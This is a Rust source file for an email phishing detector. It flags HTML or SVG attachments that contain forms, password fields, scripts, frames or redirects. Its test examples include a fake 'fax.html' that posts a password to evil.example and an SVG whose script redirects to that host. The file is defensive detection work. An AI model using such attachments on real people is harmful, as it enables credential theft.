//! A web page or drawing as an attachment opens in the browser, outside every filter, and asks for a password there or
//! loads what does.

use super::kit::*;

pub(super) const SIGNAL: Signal = Signal {
    name: "attachment-html-active",
    about: "An attached web page or SVG drawing has a form, a script or sends the browser on.",
    read,
    examples: &[
        hit(
            "a page with a password field",
            "From: a@b.example\nContent-Type: text/html; name=\"fax.html\"\nContent-Disposition: attachment\n\n<form action=\"https://evil.example/\"><input type=password name=p></form>",
        ),
        hit(
            "a drawing with a script",
            "From: a@b.example\nContent-Type: image/svg+xml; name=\"fax.svg\"\nContent-Disposition: attachment\n\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='https://evil.example/'</script></svg>",
        ),
        miss(
            "a page that only shows text",
            "From: a@b.example\nContent-Type: text/html; name=\"minutes.html\"\nContent-Disposition: attachment\n\n<p>Minutes of Monday</p>",
        ),
    ],
};

fn read(evidence: &Evidence) -> Reading {
    attachments_told(evidence, |attachment| {
        let html = attachment.contents.html.as_ref()?;
        let mut has = Vec::new();
        for (what, count) in [
            ("a password field", html.password_fields),
            ("a form", html.forms),
            ("a script", html.scripts),
            ("script in its elements", html.event_handlers),
            ("an embedded frame", html.iframes),
            ("an instruction to go elsewhere", html.meta_refreshes),
        ] {
            if count > 0 {
                has.push(what);
            }
        }
        (!has.is_empty()).then(|| format!("{} has {}", file(&attachment.name), has.join(", ")))
    })
}
